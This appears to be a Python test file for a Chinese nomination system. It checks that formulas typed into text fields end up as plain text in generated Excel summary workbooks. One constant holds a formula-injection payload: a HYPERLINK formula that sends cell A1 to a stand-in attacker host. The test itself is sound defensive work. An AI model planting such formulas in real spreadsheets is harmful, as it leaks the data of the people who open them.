"""No formula from user text in any workbook: the summary workbook and the package's 汇总表.xlsx.

A clerk (or anyone who gets a unit's login) can type ``=HYPERLINK("http://…"&A1,"点击")`` into a
text field; in the organiser's Excel that would be a live formula sending the sheet's cells away.
Every value a person entered must arrive as the text they typed.
"""

import io
import zipfile

from openpyxl import load_workbook

from tests.conftest import BEFORE_DEADLINE, complete_nomination
from tuixuan.documents.package import SUMMARY, build_package
from tuixuan.documents.xlsx import summary_workbook
from tuixuan.nominations import services
from tuixuan.nominations.models import Nomination
from tuixuan.units.models import RecommendingUnit

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


def _every_cell(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _nomination_with_formulas(gx, unit, member):
    RecommendingUnit.objects.filter(pk=unit.pk).update(name="=1+1")
    nomination = complete_nomination(
        member, gx, unit, "volunteer", projects=FORMULA, organisation="=SUM(A1:A9)"
    )
    services.submit(member, nomination, now=BEFORE_DEADLINE)
    return nomination


def _assert_only_text(book):
    cells = list(_every_cell(book))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {FORMULA, "=SUM(A1:A9)", "=1+1"} <= values


def test_the_summary_workbook_holds_typed_formulas_as_text(gx, unit, member):
    _nomination_with_formulas(gx, unit, member)
    book = load_workbook(io.BytesIO(summary_workbook(gx, Nomination.objects.all())))
    _assert_only_text(book)


def test_the_packages_summary_holds_typed_formulas_as_text(gx, unit, member):
    _nomination_with_formulas(gx, unit, member)
    buffer = io.BytesIO()
    build_package(gx, Nomination.objects.all(), buffer, include_pdf=False)
    with zipfile.ZipFile(buffer) as archive:
        book = load_workbook(io.BytesIO(archive.read(SUMMARY)))
    _assert_only_text(book)
